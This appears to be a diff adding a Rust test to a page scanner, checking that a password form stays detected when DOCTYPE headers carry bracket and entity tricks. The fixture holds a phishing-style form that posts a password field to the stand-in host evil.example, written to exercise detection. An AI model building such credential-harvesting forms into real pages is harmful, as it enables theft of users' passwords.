@@ -228,3 +228,15 @@ fn what_follows_an_empty_element_of_a_page_in_xml_is_seen() {
         }
     }
 }
+
+#[test]
+fn a_bracket_behind_the_declaration_hides_nothing() {
+    for head in ["<!DOCTYPE html>", "<!DOCTYPE html SYSTEM 'about:legacy-compat'>", "<!DOCTYPE a SYSTEM \"x[\">"] {
+        let page =
+            format!("{head}<form action='https://evil.example/in'><input type=password></form>[<!ENTITY a 'b'>]>c");
+        for name in ["a.html", "a.svg"] {
+            let marks = open(page.as_bytes(), name).items[0].marks.clone();
+            assert!(marks.contains(&"password_field".to_owned()), "{name} {head} {marks:?}");
+        }
+    }
+}
